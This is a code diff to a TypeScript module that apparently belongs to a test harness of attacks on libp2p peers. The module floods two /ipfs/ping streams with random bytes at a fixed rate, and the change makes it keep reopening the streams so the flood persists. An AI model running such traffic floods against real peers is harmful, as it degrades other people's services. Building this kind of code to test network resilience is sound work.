@@ -1,7 +1,7 @@
 /** Two streams of libp2p's ping at half a megabyte a second each. */
 
 import { randomBytes } from "node:crypto";
-import { type Attack, atRate, persist, sideBySide } from "../attack.ts";
+import { type Attack, atRate, keepOpening, persist, sideBySide } from "../attack.ts";
 import { pour } from "../peer.ts";
 
 const STREAMS = 2;
@@ -15,14 +15,14 @@ export const attack: Attack = {
     persist(
       context,
       async (peer) => {
-        await sideBySide(STREAMS, async () => {
-          const stream = await peer.open("/ipfs/ping/1.0.0");
-          stream.addEventListener("message", () => undefined);
-          await atRate(context, PER_SECOND, async () => {
-            context.count("bytes", BYTES);
-            return await pour(stream, randomBytes(BYTES));
-          });
-        });
+        await sideBySide(STREAMS, () =>
+          keepOpening(context, peer, "/ipfs/ping/1.0.0", (stream) =>
+            atRate(context, PER_SECOND, async () => {
+              context.count("bytes", BYTES);
+              return await pour(stream, randomBytes(BYTES));
+            }),
+          ),
+        );
       },
       true,
     ),
